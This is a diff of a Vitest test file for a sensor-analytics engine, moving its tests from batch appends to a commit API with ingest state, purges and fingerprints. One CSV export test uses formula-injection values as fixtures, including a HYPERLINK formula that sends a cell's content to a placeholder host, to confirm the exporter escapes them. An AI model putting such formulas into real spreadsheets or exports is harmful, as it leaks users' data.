@@ -4,10 +4,10 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { buffer as readAll } from 'node:stream/consumers';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { AnalyticsEngine, type MeasurementRow } from '../../src/analytics/engine.js';
+import type { CommitFingerprints } from '../../src/analytics/commit-types.js';
+import { AnalyticsEngine } from '../../src/analytics/engine.js';
 import { partitionOf } from '../../src/analytics/partitions.js';
-import { countMeasurements } from '../../src/analytics/queries.js';
-import { BASE_TS, expectedAggregate, generateRows, iso } from '../helpers/measurements.js';
+import { BASE_TS, commitRows, countMeasurements, expectedAggregate, generateRows, iso, type MeasurementRow } from '../helpers/measurements.js';
 import { openTempAnalytics, type TempAnalytics } from '../helpers/temp-analytics.js';
 
 const close = (a: number | null, b: number | null) => {
@@ -15,91 +15,144 @@ const close = (a: number | null, b: number | null) => {
   return expect(Math.abs(a - b)).toBeLessThanOrEqual(1e-9 * Math.max(1, Math.abs(b)));
 };
 
-describe('analytics engine: appendBatch and the high-water mark', () => {
+describe('analytics engine: commit', () => {
   let t: TempAnalytics;
   beforeEach(async () => {
     t = await openTempAnalytics();
   });
   afterEach(() => t.cleanup());
 
-  it('starts with a high-water mark of 0 and no measurements', async () => {
-    expect(await t.engine.highWaterMark()).toBe(0);
+  const seriesCount = async (engine = t.engine) => Number((await engine.all('test', 'SELECT count(*)::INTEGER AS n FROM series'))[0]!.n);
+  /** n fingerprints with the given times: fp i+1 (as u64 LE), tag -i. */
+  const fingerprints = (times: number[]): CommitFingerprints => {
+    const fp = new Uint8Array(times.length * 8);
+    const view = new DataView(fp.buffer);
+    times.forEach((_, i) => view.setBigUint64(i * 8, BigInt(i + 1) * 0x1_0000_0001n, true));
+    return { fp, ts: Uint32Array.from(times), tag: Int32Array.from(times, (_, i) => -i) };
+  };
+
+  it('starts at batch 0 with nothing stored', async () => {
+    expect(await t.engine.ingestState()).toEqual({ batch: 0, queueThrough: 0, position: null, purgesDone: [], effects: [] });
     expect(await countMeasurements(t.engine)).toBe(0);
+    expect((await t.engine.fingerprints(0)).ts).toHaveLength(0);
   });
 
-  it('stores every row of a batch together with its high-water mark', async () => {
-    const rows = generateRows({ count: 1000 });
-    await t.engine.appendBatch(rows, 250);
+  it('stores every reading of a commit together with the ingest state, batch after batch', async () => {
+    expect(await commitRows(t.engine, generateRows({ count: 1000 }), { queueThrough: 250, position: '1-0' })).toEqual({ batch: 1 });
     expect(await countMeasurements(t.engine)).toBe(1000);
-    expect(await t.engine.highWaterMark()).toBe(250);
-    await t.engine.appendBatch(generateRows({ count: 10, firstBufferId: 251 }), 253);
+    expect(await commitRows(t.engine, generateRows({ count: 10 }), { queueThrough: 253 })).toEqual({ batch: 2 });
     expect(await countMeasurements(t.engine)).toBe(1010);
-    expect(await t.engine.highWaterMark()).toBe(253);
+    // queue_through never goes back; a commit without a position keeps the last one.
+    await commitRows(t.engine, [], { queueThrough: 100 });
+    expect(await t.engine.ingestState()).toMatchObject({ batch: 3, queueThrough: 253, position: '1-0' });
   });
 
-  it('records the high-water mark of a batch with no rows', async () => {
-    await t.engine.appendBatch([], 7);
-    expect(await t.engine.highWaterMark()).toBe(7);
+  it('keeps each series once: its strings in the series table, readings as numbers', async () => {
+    const rows = generateRows({ count: 600 });
+    await commitRows(t.engine, rows);
+    const distinct = new Set(rows.map((r) => JSON.stringify([r.sensor_id, r.metric, r.unit, r.lab_id, r.model_id, r.source])));
+    expect(await seriesCount()).toBe(distinct.size);
+    await commitRows(t.engine, generateRows({ count: 600, seed: 2 }));
+    expect(await seriesCount()).toBe(distinct.size);
+    const columns = await t.engine.all('test', `SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'readings_p00' ORDER BY ordinal_position`);
+    expect(columns.map((c) => [c.column_name, c.data_type])).toEqual([['series', 'INTEGER'], ['ts', 'TIMESTAMP'], ['value', 'DOUBLE']]);
   });
 
-  it('leaves neither rows nor high-water mark when a row of the batch is bad, and keeps working', async () => {
-    await t.engine.appendBatch(generateRows({ count: 100 }), 25);
+  it('leaves nothing of a failed commit, forgets the series it made, and keeps working', async () => {
+    await commitRows(t.engine, generateRows({ count: 100 }), { queueThrough: 25 });
+    const before = await seriesCount();
     // Bad at the end of a batch long enough for the appender to have flushed chunks already.
-    const bad = generateRows({ count: 300_000, firstBufferId: 26 });
-    bad[299_999] = { ...bad[299_999]!, metric: null as unknown as string };
-    await expect(t.engine.appendBatch(bad, 150)).rejects.toThrow();
+    const bad = generateRows({ count: 300_000, sensors: ['fresh-1', 'fresh-2'] });
+    bad[299_999] = { ...bad[299_999]!, ts: Number.NaN };
+    await expect(commitRows(t.engine, bad, { queueThrough: 150, effects: '{}' })).rejects.toThrow(/time/);
+    // Fingerprint columns of different lengths: refused after the readings went in.
+    const f = fingerprints([1, 2, 3]);
+    await expect(commitRows(t.engine, generateRows({ count: 50, sensors: ['fresh-3'] }), { fingerprints: { ...f, tag: f.tag.subarray(0, 2) } })).rejects.toThrow(/disagree/);
     expect(await countMeasurements(t.engine)).toBe(100);
-    // A value DuckDB itself refuses (out of SMALLINT range) in the middle of a batch.
-    const outOfRange = generateRows({ count: 5000, firstBufferId: 26 });
-    outOfRange[2500] = { ...outOfRange[2500]!, model_id: 70_000 };
-    await expect(t.engine.appendBatch(outOfRange, 150)).rejects.toThrow();
-    expect(await countMeasurements(t.engine)).toBe(100);
-    expect(await t.engine.highWaterMark()).toBe(25);
+    expect(await seriesCount()).toBe(before);
+    expect(await t.engine.ingestState()).toMatchObject({ batch: 1, queueThrough: 25, effects: [] });
 
-    await t.engine.appendBatch(generateRows({ count: 500, firstBufferId: 26 }), 150);
+    expect(await commitRows(t.engine, generateRows({ count: 500, sensors: ['fresh-1'] }), { queueThrough: 150 })).toEqual({ batch: 2 });
     expect(await countMeasurements(t.engine)).toBe(600);
-    expect(await t.engine.highWaterMark()).toBe(150);
+    expect((await t.engine.sensorStats('fresh-1')).count).toBe(500);
+    expect(await t.engine.ingestState()).toMatchObject({ batch: 2, queueThrough: 150 });
   });
 
-  it('refuses a high-water mark that is not a non-negative integer', async () => {
-    await expect(t.engine.appendBatch([], -1)).rejects.toThrow(/high-water/);
-    await expect(t.engine.appendBatch([], 1.5)).rejects.toThrow(/high-water/);
+  it('refuses a queue id that is not a non-negative integer', async () => {
+    await expect(commitRows(t.engine, [], { queueThrough: -1 })).rejects.toThrow(/queueThrough/);
+    await expect(commitRows(t.engine, [], { queueThrough: 1.5 })).rejects.toThrow(/queueThrough/);
+    expect((await t.engine.ingestState()).batch).toBe(0);
   });
 
-  it('reads the high-water mark it wrote, in the same process, after reading it before the first append', async () => {
-    expect(await t.engine.highWaterMark()).toBe(0);
-    await t.engine.appendBatch(generateRows({ count: 10 }), 3);
-    expect(await t.engine.highWaterMark()).toBe(3);
-    await t.engine.appendBatch(generateRows({ count: 10, firstBufferId: 4 }), 9);
-    expect(await t.engine.highWaterMark()).toBe(9);
+  it('keeps side effects under their batch until they are applied', async () => {
+    await commitRows(t.engine, [], { effects: '{"a":1}' });
+    await commitRows(t.engine, [], { effects: '{"b":2}' });
+    await commitRows(t.engine, [], { effects: '{"c":3}', effectsAppliedThrough: 1 });
+    expect((await t.engine.ingestState()).effects).toEqual([
+      [2, '{"b":2}'],
+      [3, '{"c":3}'],
+    ]);
+  });
+
+  it('stores fingerprints and hands back those inside the window as columns; forgets older ones', async () => {
+    const times = Array.from({ length: 5000 }, (_, i) => 1_700_000_000 + i);
+    const f = fingerprints(times);
+    const expected = { fp: f.fp.slice(), ts: f.ts.slice(), tag: f.tag.slice() };
+    await commitRows(t.engine, [], { fingerprints: f });
+    const all = await t.engine.fingerprints(0);
+    expect(all.fp).toEqual(expected.fp);
+    expect(all.ts).toEqual(expected.ts);
+    expect(all.tag).toEqual(expected.tag);
+    const recent = await t.engine.fingerprints(1_700_004_000);
+    expect([...recent.ts]).toEqual(times.slice(4000));
+    expect(recent.fp).toEqual(expected.fp.subarray(4000 * 8));
+    await commitRows(t.engine, [], { forgetBefore: 1_700_004_500 });
+    expect((await t.engine.fingerprints(0)).ts).toHaveLength(500);
+  });
+
+  it('purges a sensor\'s readings so far, not those of the same commit, once per purge id', async () => {
+    const rows = generateRows({ count: 300, sensors: ['given-away', 'kept'] });
+    await commitRows(t.engine, rows);
+    const fresh = generateRows({ count: 10, sensors: ['given-away'], seed: 9 });
+    await commitRows(t.engine, fresh, { purges: [{ id: 7, sensorId: 'given-away' }] });
+    expect(await countMeasurements(t.engine, 'given-away')).toBe(10);
+    expect(await countMeasurements(t.engine, 'kept')).toBe(150);
+    expect((await t.engine.ingestState()).purgesDone).toEqual([7]);
+    // The same purge again (a batch sent twice): done already, so the readings since stay.
+    await commitRows(t.engine, generateRows({ count: 4, sensors: ['given-away'], seed: 10 }), { purges: [{ id: 7, sensorId: 'given-away' }] });
+    expect(await countMeasurements(t.engine, 'given-away')).toBe(14);
   });
 
   it('answers right about rows that arrived after it was first asked while empty', async () => {
     expect((await t.engine.sensors()).count).toBe(0);
     expect((await t.engine.sensorStats('sensor-a')).count).toBe(0);
     const rows = generateRows({ count: 400, sensors: ['sensor-a', 'sensor-b', 'sensor-c', 'sensor-d'] });
-    await t.engine.appendBatch(rows, 5);
+    await commitRows(t.engine, rows);
     const list = await t.engine.sensors();
     expect(list.sensors.map((s) => s.sensor_id)).toEqual(['sensor-a', 'sensor-b', 'sensor-c', 'sensor-d']);
     expect(list.sensors.map((s) => s.count)).toEqual([100, 100, 100, 100]);
     expect((await t.engine.sensorStats('sensor-a')).count).toBe(100);
   });
 
-  it('keeps rows and high-water mark across a close and reopen', async () => {
-    await t.engine.appendBatch(generateRows({ count: 300 }), 75);
+  it('keeps readings, series and ingest state across a close and reopen', async () => {
+    await commitRows(t.engine, generateRows({ count: 300 }), { queueThrough: 75, position: '9-1', effects: 'x' });
+    const series = await seriesCount();
     await t.engine.close();
     const reopened = await AnalyticsEngine.open({ path: t.path, memoryLimit: '256MB', threads: 1 });
     try {
-      expect(await reopened.highWaterMark()).toBe(75);
+      expect(await reopened.ingestState()).toEqual({ batch: 1, queueThrough: 75, position: '9-1', purgesDone: [], effects: [[1, 'x']] });
       expect(await countMeasurements(reopened)).toBe(300);
+      // The same series again: found in the table loaded at open, not made twice.
+      expect(await commitRows(reopened, generateRows({ count: 300 }))).toEqual({ batch: 2 });
+      expect(await seriesCount(reopened)).toBe(series);
     } finally {
       await reopened.close();
     }
   });
 
-  it('never shows a reader part of a batch that is being appended', async () => {
+  it('never shows a reader part of a commit that is under way', async () => {
     const rows = generateRows({ count: 200_000 });
-    const append = t.engine.appendBatch(rows, 50_000);
+    const append = commitRows(t.engine, rows);
     const seen = new Set<number>();
     let done = false;
     void append.finally(() => (done = true));
@@ -123,11 +176,14 @@ describe('analytics engine: appendBatch and the high-water mark', () => {
   it('spreads sensors over the partitions and reads each back from its own', async () => {
     const sensors = Array.from({ length: 64 }, (_, i) => `sensor-${i}`);
     const rows = generateRows({ count: 6400, sensors });
-    await t.engine.appendBatch(rows, 1600);
+    await commitRows(t.engine, rows);
     const used = new Set(sensors.map(partitionOf));
     expect(used.size).toBeGreaterThanOrEqual(12);
     for (const id of sensors.slice(0, 8)) {
       expect((await t.engine.sensorStats(id)).count).toBe(100);
+      const own = `readings_p${String(partitionOf(id)).padStart(2, '0')}`;
+      const inOwn = await t.engine.all('test', `SELECT count(*)::INTEGER AS n FROM ${own} JOIN series USING (series) WHERE sensor_id = $1`, [id]);
+      expect(inOwn[0]!.n).toBe(100);
     }
     expect(await countMeasurements(t.engine)).toBe(6400);
     expect((await t.engine.compare(sensors.slice(0, 40))).sensors.every((s) => s.count === 100)).toBe(true);
@@ -136,13 +192,13 @@ describe('analytics engine: appendBatch and the high-water mark', () => {
   it('can be closed twice and refuses work once closed', async () => {
     await t.engine.close();
     await t.engine.close();
-    await expect(t.engine.appendBatch([], 1)).rejects.toThrow(/closed/);
-    await expect(t.engine.ping()).rejects.toThrow(/closed/);
+    await expect(commitRows(t.engine, [])).rejects.toThrow(/closed/);
+    await expect(t.engine.healthPing()).rejects.toThrow(/closed/);
   });
 
-  it('reports its file size and answers ping', async () => {
-    await t.engine.appendBatch(generateRows({ count: 100 }), 1);
-    await t.engine.ping();
+  it('reports its file size and answers a health ping', async () => {
+    await commitRows(t.engine, generateRows({ count: 100 }));
+    await t.engine.healthPing();
     expect(t.engine.sizeBytes()).toBeGreaterThan(0);
   });
 });
@@ -154,8 +210,8 @@ describe('analytics engine: queries give the values computed from the rows', () 
     t = await openTempAnalytics();
     rows = generateRows({ count: 6000, sensors: ['s-1', 's-2', 's-3'], seed: 7 });
     // A sensor with a single reading: stddev is null, not 0 or NaN.
-    rows.push({ ...rows[0]!, sensor_id: 'lonely', buffer_id: 9999 });
-    await t.engine.appendBatch(rows, 9999);
+    rows.push({ ...rows[0]!, sensor_id: 'lonely' });
+    await commitRows(t.engine, rows);
   });
   afterEach(() => t.cleanup());
 
@@ -327,7 +383,7 @@ describe('analytics engine: export', () => {
   beforeEach(async () => {
     t = await openTempAnalytics();
     rows = generateRows({ count: 3000, sensors: ['s-1', 's-2', 's-3'], seed: 3 });
-    await t.engine.appendBatch(rows, 750);
+    await commitRows(t.engine, rows);
   });
   afterEach(() => t.cleanup());
 
@@ -403,14 +459,14 @@ describe('analytics engine: export', () => {
   });
 
   it('csv: a text cell a spreadsheet would run as a formula starts with a quote; numbers are untouched', async () => {
-    const base = { buffer_id: 900, ts: rows[0]!.ts, lab_id: null, model_id: null, source: 'test' };
-    await t.engine.appendBatch(
+    const base = { ts: rows[0]!.ts, lab_id: null, model_id: null, source: 'test' };
+    await commitRows(
+      t.engine,
       [
         { ...base, sensor_id: '=evil', metric: '=HYPERLINK("http://x.example/?"&A1)', value: -5, unit: '+1', lab_id: '@lab' },
         { ...base, sensor_id: '=evil', metric: '-cmd', value: 1, unit: '\tx' },
         { ...base, sensor_id: '=evil', metric: 'plain=ok', value: 2, unit: 'a-b', source: '@src' },
       ],
-      900,
     );
     const file = await t.engine.exportMeasurements({ format: 'csv', sensorIds: ['=evil'] });
     const lines = (await readAll(file.stream)).toString('utf8').trim().split('\n').slice(1).sort();
